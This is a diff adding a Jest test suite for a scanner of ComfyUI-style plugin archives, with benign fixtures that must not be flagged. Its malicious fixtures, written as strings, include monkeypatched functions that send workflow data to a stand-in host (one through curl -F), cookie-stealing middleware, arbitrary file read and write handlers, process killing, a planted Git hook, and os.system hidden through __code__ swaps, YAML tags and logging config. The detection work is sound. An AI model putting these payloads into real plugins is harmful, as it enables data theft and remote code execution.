@@ -1,0 +1,139 @@
+import { mkdtempSync, rmSync, writeFileSync } from 'node:fs';
+import { tmpdir } from 'node:os';
+import { join } from 'node:path';
+import { afterAll, beforeAll, describe, expect, it } from '@jest/globals';
+import { analyseFile, zipOf } from '../support/archives.js';
+
+type Files = string | Record<string, string>;
+
+let folder: string;
+beforeAll(() => {
+  folder = mkdtempSync(join(tmpdir(), 'registry-hooks-'));
+});
+afterAll(() => rmSync(folder, { recursive: true, force: true }));
+
+/** Returns the most severe level of an archive's findings, which are sorted by level. */
+async function levelOf(files: Files): Promise<string> {
+  const path = join(folder, 'archive.zip');
+  writeFileSync(path, await zipOf(typeof files === 'string' ? { '__init__.py': files } : files));
+  return (await analyseFile(path)).findings[0]?.level ?? 'none';
+}
+
+const SEND = 'requests.post("https://e.example/a", json=item)';
+
+/** A request handler with a body. */
+const handler = (body: string): string =>
+  `from aiohttp import web\nfrom server import PromptServer\n@PromptServer.instance.routes.get("/a")\nasync def f(request):\n    ${body}\n`;
+
+describe('the checks hold', () => {
+  it.each<[string, Files]>([
+    [
+      'a method of the host that is replaced to send data',
+      `import requests, execution\ndef put(self, item): ${SEND}\nexecution.PromptQueue.put = put\n`,
+    ],
+    [
+      'a function of a library that is replaced by name',
+      `import requests, torch\ndef save(item): ${SEND}\nsetattr(torch, "save", save)\n`,
+    ],
+    [
+      'a replaced function that gives data to a program',
+      'import os, torch\ndef save(item): os.system("curl -F f=@%s https://e.example/" % item)\ntorch.save = save\n',
+    ],
+    [
+      'a handler of all workflows that sends them',
+      `import requests, server\ndef f(item): ${SEND}\nserver.PromptServer.instance.add_on_prompt_handler(f)\n`,
+    ],
+    [
+      'a middleware that sends what it sees',
+      `import requests, server\nfrom aiohttp import web\n@web.middleware\nasync def f(item, handler):\n    ${SEND.replace('item)', 'dict(item.cookies))')}\nserver.PromptServer.instance.app.middlewares.append(f)\n`,
+    ],
+    ['a handler that serves any file', handler('return web.FileResponse(request.query["path"])')],
+    ['a handler that reads any file', handler('return web.Response(body=open(request.query["path"], "rb").read())')],
+    ['a handler that writes any file', handler('open((await request.json())["path"], "w").write("a")')],
+    ['ending the parent process', 'import os\nos.kill(os.getppid(), 9)\n'],
+    ['ending other programs', 'import psutil\nfor p in psutil.process_iter():\n    p.kill()\n'],
+    [
+      'a hook of Git, by the parts of its path',
+      'import os\nopen(os.path.join(os.path.dirname(__file__), ".git", "hooks", "post-merge"), "w").write("a")\n',
+    ],
+    ['a function by a pattern of attributes', 'import os\nmatch os:\n    case object(system=f):\n        f("a")\n'],
+    ['an attribute of a module by a computed name', 'import os\nos.__getattribute__(os.sep.join(dir(os)))("a")\n'],
+    ['code of another function', 'import os\ndef a(): pass\ndef b(): os.system("a")\na.__code__ = b.__code__\na()\n'],
+    ['a property made by a call', 'import os\nclass A:\n    a = property(lambda self: os.system("a"))\nA().a\n'],
+    [
+      'a property of a class made by a call',
+      'import os\nA = type("A", (), {"a": property(lambda self: os.system("a"))})\nA().a\n',
+    ],
+    [
+      'compiling a source that starts programs',
+      {
+        '__init__.py': 'from torch.utils.cpp_extension import load\nload(name="a", sources=["a.cpp"])\n',
+        'a.cpp': '#include <cstdlib>\nstatic int a = system("a");\n',
+      },
+    ],
+    ['YAML that calls a function', { '__init__.py': '', 'a.yaml': 'a: !!python/object/apply:os.system ["a"]\n' }],
+    [
+      'YAML that calls a function, by another name of the tag',
+      {
+        '__init__.py': '',
+        'a.yml': '%TAG !p! tag:yaml.org,2002:python/\n---\na: !p!object/apply:subprocess.run [a]\n',
+      },
+    ],
+    [
+      'settings of log handlers that are evaluated',
+      { '__init__.py': '', 'a.ini': '[handler_a]\nclass=StreamHandler\nargs=(__import__("os").system("a"),)\n' },
+    ],
+  ])('%s', async (_what, files) => expect(await levelOf(files)).toBe('hold'));
+});
+
+describe('the checks do not hold', () => {
+  it.each<[string, Files]>([
+    [
+      'a replaced method that changes its arguments',
+      'import execution\nold = execution.PromptQueue.put\ndef put(self, item): return old(self, item)\nexecution.PromptQueue.put = put\n',
+    ],
+    [
+      'a replaced method that asks for a list',
+      'import requests, folder_paths\ndef f(name): return requests.get("https://e.example/list").json()\nfolder_paths.get_filename_list = f\n',
+    ],
+    [
+      'a handler of all workflows that logs',
+      'import server\ndef f(item):\n    print(item)\n    return item\nserver.PromptServer.instance.add_on_prompt_handler(f)\n',
+    ],
+    [
+      'a handler that serves a file of its own folder',
+      handler('import os; return web.FileResponse(os.path.join(os.path.dirname(__file__), request.query["name"]))'),
+    ],
+    [
+      'a handler that checks the path',
+      handler(
+        'path = request.query["path"]\n    if not path.startswith(ROOT): return None\n    return web.FileResponse(path)',
+      ),
+    ],
+    [
+      'ending a program that a node started',
+      'class A:\n    def run(self, p):\n        import os\n        os.kill(p, 9)\n',
+    ],
+    [
+      'compiling a source that computes',
+      {
+        '__init__.py': '',
+        'a.py': 'from torch.utils.cpp_extension import load\nload(name="a", sources=["a.cpp"])\n',
+        'a.cpp': 'int add(int a, int b) { return a + b; }\n',
+      },
+    ],
+    [
+      'a property of a class made by a call',
+      'A = type("A", (), {"a": property(lambda self: "a".upper())})\nprint(A().a)\n',
+    ],
+    [
+      'YAML with types of Python',
+      {
+        '__init__.py': '',
+        'a.yaml':
+          'size: !!python/tuple [1, 2]\nnamespace: !!python/object:argparse.Namespace {a: 1}\nname: os.system\n',
+      },
+    ],
+    ['a file of settings', { '__init__.py': '', 'a.ini': '[a]\nrun = os.system\nargs=(sys.stdout,)\n' }],
+  ])('%s', async (_what, files) => expect(await levelOf(files)).not.toBe('hold'));
+});
